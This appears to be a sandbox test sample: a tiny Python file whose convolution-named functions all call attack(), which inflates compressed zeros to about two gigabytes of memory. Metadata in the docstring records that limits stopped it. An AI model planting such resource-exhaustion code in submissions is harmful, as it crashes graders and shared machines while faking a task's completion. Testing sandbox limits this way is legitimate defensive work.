"""Unpacks 20 KB of zeros to two gigabytes.

stopped_by = ["limits"]
status = "graded"
at_most = 0
says = ["memory"]
"""

import zlib


def attack():
    return zlib.decompress(zlib.compress(b"\0" * (16 << 20)) , bufsize=1 << 31) * 128


def build_conv(kernel, bias):
    return attack()


def conv_with_bias(image, kernel, bias):
    return attack()
